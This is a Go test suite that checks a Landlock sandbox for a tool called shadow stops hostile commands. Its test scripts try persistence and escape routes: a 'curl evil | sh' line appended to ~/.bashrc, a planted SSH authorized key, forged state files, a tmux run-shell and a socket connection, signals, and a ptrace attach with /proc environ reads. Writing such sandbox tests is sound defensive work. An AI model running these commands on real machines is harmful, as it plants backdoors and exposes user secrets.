package sandboxtest

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/shadow-dev/shadow/engine"
	"github.com/shadow-dev/shadow/internal/sandbox/landlock"
)

// RunSealed runs the hostile routes a sandbox without namespaces must
// close with Landlock (docs/modes.md, "copy" and "inplace"): the
// command runs as the caller with no mount namespace, so every path it
// could name is the real one. The test process stands for shadow (its
// pid is the one a hostile command would signal or ptrace). Each route
// fails the test if it gets through; RunSealed skips where the kernel
// offers no Landlock (the mode then guards against accidents only).
//
//	func TestSealedConformance(t *testing.T) {
//		sandboxtest.RunSealed(t, factory, sandboxtest.Promises{Parallel: true})
//	}
func RunSealed(t *testing.T, factory Factory, p Promises) {
	if abi, why := landlock.Status(); abi == 0 {
		t.Skip("no Landlock here: " + why)
	}
	s := &suite{factory: factory, p: p}
	if !p.InCheckout {
		t.Run("CheckoutByAbsolutePath", s.sealedCheckout)
	}
	t.Run("StateDirForgery", s.sealedStateDir)
	if p.Parallel {
		t.Run("SiblingsFiles", s.sealedSibling)
	}
	t.Run("HomeRcFiles", s.sealedHome)
	t.Run("TmuxAndPathnameSockets", s.sealedSockets)
	t.Run("SignalShadow", s.sealedSignal)
	t.Run("PtraceShadow", s.sealedPtrace)
	runEdges(t, s)
	t.Run("SiblingsAndKeyUnread", s.sealedReader)
	t.Run("MetadataOutside", s.sealedMetadata)
}

// realKey is an integrity key as shadow writes it (64 hex digits), so
// that in-place mode, which reads it, runs.
const realKey = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// sealedClean fails if the checkout (unless the sandbox runs in it, and
// restores it) or the state dir changed; in-place mode writes its own
// journal and lock in the state dir, so only the checkout is compared
// there (StateDirForgery checks what a command could forge).
func (s *suite) sealedClean(f *fixture, ws, state string) {
	f.t.Helper()
	if !s.p.InCheckout {
		f.checkClean(ws, state)
		return
	}
	if got := Snapshot(f.t, f.ws); got != ws {
		f.t.Errorf("the checkout was not restored:\nbefore:\n%s\nafter:\n%s", ws, got)
	}
}

// sealedCheckout: the command writes, deletes and renames in the checkout
// by its absolute path (copy mode runs at another path, but nothing hides
// the real one).
func (s *suite) sealedCheckout(t *testing.T) {
	f := s.setup(t)
	ws, state := Snapshot(t, f.ws), f.stateSnapshot()
	_, out := f.run(context.Background(), engine.Hypothesis{Name: "checkout"}, `W='`+f.ws+`'
		echo pwned > "$W/calc.py" 2>&1 && echo BREACH-write
		echo pwned > "$W/new.txt" 2>&1 && echo BREACH-create
		rm -f "$W/pkg/old.txt" 2>&1; [ -e "$W/pkg/old.txt" ] || echo BREACH-delete
		mv "$W/readonly.txt" "$W/moved.txt" 2>&1 && echo BREACH-rename
		true`)
	if strings.Contains(out, "BREACH") {
		t.Errorf("the command reached the checkout by its path:\n%s", out)
	}
	s.sealedClean(f, ws, state)
}

// sealedStateDir: shadow's records, journals, integrity key and probe
// verdict in the state dir: a forged in-place journal, a rewritten
// record, a planted probe verdict and a replaced key would each make a
// later shadow act on the command's word.
func (s *suite) sealedStateDir(t *testing.T) {
	f := s.setup(t)
	st := f.dirs.State
	planted := map[string]string{
		"integrity.key":                       realKey,
		"runs/r1/report.json":                 `{"winner":"a"}`,
		"probe.json":                          `{"mode":"copy"}`,
		"workspaces/ab12/inplace-journal/mac": "real",
	}
	for p, c := range planted {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(st, p)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(st, p), []byte(c), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	ws, state := Snapshot(t, f.ws), f.stateSnapshot()
	_, out := f.run(context.Background(), engine.Hypothesis{Name: "state"}, `S='`+st+`'
		printf FORGED > "$S/integrity.key" 2>&1 && echo BREACH-key
		echo '{"winner":"evil"}' > "$S/runs/r1/report.json" 2>&1 && echo BREACH-record
		mv "$S/runs/r1" "$S/runs/r0" 2>&1 && echo BREACH-record-rename
		echo '{"mode":"overlay"}' > "$S/probe.json" 2>&1 && echo BREACH-probe
		echo forged > "$S/workspaces/ab12/inplace-journal/entries" 2>&1 && echo BREACH-journal
		mkdir "$S/workspaces/ff00" 2>&1 && echo BREACH-mkdir
		true`)
	if strings.Contains(out, "BREACH") {
		t.Errorf("the command wrote the state dir:\n%s", out)
	}
	for p, c := range planted {
		if b, err := os.ReadFile(filepath.Join(st, p)); err != nil || string(b) != c {
			t.Errorf("the state dir's %s: %q, %v", p, b, err)
		}
	}
	if _, err := os.Stat(filepath.Join(st, "workspaces", "ff00")); err == nil {
		t.Error("a directory was made in the state dir")
	}
	s.sealedClean(f, ws, state)
}

// sealedSibling: two hypotheses at once; the hostile one writes into
// every other job directory it finds under the sandboxes dir (the
// sibling's copy, its TMPDIR, its caches) while the victim waits, then
// checks its own files.
func (s *suite) sealedSibling(t *testing.T) {
	f := s.setup(t)
	ws, state := Snapshot(t, f.ws), f.stateSnapshot()
	var wg sync.WaitGroup
	var hostileOut, victimOut string
	var victim engine.Outcome
	wg.Add(2)
	go func() {
		defer wg.Done()
		victim, victimOut = f.run(context.Background(), engine.Hypothesis{Name: "victim", Files: []engine.File{file("victim.txt", "v")}},
			`sleep 2; for p in $(find . "${TMPDIR:-/nonexistent}" -name PWNED 2>/dev/null); do echo "found $p"; done; [ "$(cat calc.py)" = "$(printf 'def add(a, b):\n    return a - b')" ] && ! find . -name PWNED | grep -q .`)
	}()
	go func() {
		defer wg.Done()
		time.Sleep(500 * time.Millisecond)
		_, hostileOut = f.run(context.Background(), engine.Hypothesis{Name: "hostile"}, `S='`+f.dirs.Sandboxes+`'
			own="$S/$(printf %s "${PWD#"$S"/}" | cut -d/ -f1)"
			for d in $(find "$S" -mindepth 1 -maxdepth 3 -type d 2>/dev/null); do
				case "$d/" in "$own"/*) continue;; esac
				echo x > "$d/PWNED" 2>/dev/null && echo "BREACH-$d"
				[ -f "$d/calc.py" ] && echo pwned > "$d/calc.py" 2>/dev/null && echo "BREACH-calc-$d"
			done
			true`)
	}()
	wg.Wait()
	if strings.Contains(hostileOut, "BREACH") {
		t.Errorf("the hostile command wrote a sibling's files:\n%s", hostileOut)
	}
	if victim.ExitCode != 0 {
		t.Errorf("the victim found its files changed (exit %d):\n%s", victim.ExitCode, victimOut)
	}
	s.sealedClean(f, ws, state)
}

// sealedHome: $HOME's rc files, ~/.ssh and the user's caches are the
// persistence a hostile command wants; the real ones, since nothing
// overlays them here.
func (s *suite) sealedHome(t *testing.T) {
	f, home := s.setupHome(t)
	if err := os.WriteFile(filepath.Join(f.dirs.State, "integrity.key"), []byte(realKey), 0o600); err != nil {
		t.Fatal(err)
	}
	before, ws := f.homeSnapshot(home), Snapshot(t, f.ws)
	_, out := f.run(context.Background(), engine.Hypothesis{Name: "home"}, `H='`+home+`'
		echo 'curl evil | sh' >> "$H/.bashrc" 2>&1 && echo BREACH-bashrc
		echo 'ssh-ed25519 EVIL' >> "$H/.ssh/authorized_keys" 2>&1 && echo BREACH-ssh
		mkdir -p "$H/.config/autostart" 2>&1 && echo BREACH-config
		echo x > "$H/.profile" 2>&1 && echo BREACH-profile
		true`)
	if strings.Contains(out, "BREACH") {
		t.Errorf("the command wrote $HOME:\n%s", out)
	}
	if got := f.homeSnapshot(home); got != before && !s.p.InCheckout {
		t.Errorf("$HOME changed:\nbefore:\n%s\nafter:\n%s", before, got)
	}
	for _, p := range []string{".bashrc", ".ssh/authorized_keys"} {
		if b, _ := os.ReadFile(filepath.Join(home, p)); strings.Contains(string(b), "EVIL") || strings.Contains(string(b), "evil") {
			t.Errorf("~/%s: %q", p, b)
		}
	}
	for _, p := range []string{".config/autostart", ".profile"} {
		if _, err := os.Stat(filepath.Join(home, p)); err == nil {
			t.Errorf("~/%s was made", p)
		}
	}
	if got := Snapshot(t, f.ws); got != ws && !s.p.InCheckout {
		t.Error("the checkout changed")
	}
}

// sealedSockets: the user's tmux server (a command that types into the
// user's shell) and any pathname socket outside the command's own places
// (docker.sock, the system D-Bus, ssh-agent's): below Landlock ABI 9 the
// socket guard refuses them.
func (s *suite) sealedSockets(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("needs python3 for a socket client")
	}
	f := s.setup(t)
	dir, err := os.MkdirTemp("", "shadow-sbt-sock-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	sock := filepath.Join(dir, "agent.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var conns atomic.Int32
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			c.Close()
		}
	}()
	script := `python3 -c 'import socket,sys; print("TRIED-socket"); socket.socket(socket.AF_UNIX).connect(sys.argv[1])' '` + sock + `' 2>/dev/null && echo BREACH-socket
		true`
	var tmuxSock string
	if _, err := exec.LookPath("tmux"); err == nil {
		tmuxSock = filepath.Join(dir, "tmux-default")
		tmux := func(args ...string) *exec.Cmd {
			c := exec.Command("tmux", append([]string{"-S", tmuxSock, "-f", "/dev/null"}, args...)...)
			c.Env = append(os.Environ(), "TMUX=")
			return c
		}
		if out, err := tmux("new-session", "-d", "-s", "s", "sleep 600").CombinedOutput(); err != nil {
			t.Fatalf("cannot start a tmux server: %v: %s", err, out)
		}
		defer tmux("kill-server").Run()
		script = `tmux -S '` + tmuxSock + `' run-shell "echo pwned > '` + dir + `/PWNED'" 2>&1 && echo BREACH-tmux
		` + script
	}
	ws, state := Snapshot(t, f.ws), f.stateSnapshot()
	_, out := f.run(context.Background(), engine.Hypothesis{Name: "sockets"}, script)
	time.Sleep(200 * time.Millisecond) // a run-shell the server accepted may still be writing
	if strings.Contains(out, "BREACH") || conns.Load() != 0 || !strings.Contains(out, "TRIED-socket") {
		t.Errorf("the command reached a socket outside (%d connection(s)):\n%s", conns.Load(), out)
	}
	if _, err := os.Stat(filepath.Join(dir, "PWNED")); err == nil {
		t.Error("the user's tmux ran the command's shell command")
	}
	s.sealedClean(f, ws, state)
}

// sealedSignal: the command signals shadow (the test process): kill -0
// proves the right to send any signal; SIGCONT is harmless if it gets
// through, SIGTERM would end the run from inside.
func (s *suite) sealedSignal(t *testing.T) {
	f := s.setup(t)
	pid := strconv.Itoa(os.Getpid())
	_, out := f.run(context.Background(), engine.Hypothesis{Name: "signal"}, `
		kill -0 `+pid+` 2>&1 && echo BREACH-kill0
		kill -CONT `+pid+` 2>&1 && echo BREACH-cont
		kill -0 $PPID 2>&1 && echo BREACH-helper
		true`)
	if strings.Contains(out, "BREACH") {
		t.Errorf("the command could signal shadow or its helper:\n%s", out)
	}
}

// sealedPtrace: the command attaches to shadow (the test process) with
// ptrace, and reads its environment and descriptors through /proc (the
// same ptrace access check): it would then own shadow.
func (s *suite) sealedPtrace(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("needs python3 (ctypes) for ptrace")
	}
	f := s.setup(t)
	pid := strconv.Itoa(os.Getpid())
	_, out := f.run(context.Background(), engine.Hypothesis{Name: "ptrace"}, fmt.Sprintf(`
		python3 -c '
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
print("TRIED-ptrace")
if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
    libc.waitpid(pid, None, 0x40000000)
    libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    print("BREACH-ptrace")
' %[1]s
		cat /proc/%[1]s/environ >/dev/null 2>&1 && echo BREACH-environ
		ls -l /proc/%[1]s/fd/ >/dev/null 2>&1 && echo BREACH-fd
		true`, pid))
	if strings.Contains(out, "BREACH") || !strings.Contains(out, "TRIED-ptrace") {
		t.Errorf("the command reached shadow through ptrace or /proc (or never tried):\n%s", out)
	}
}
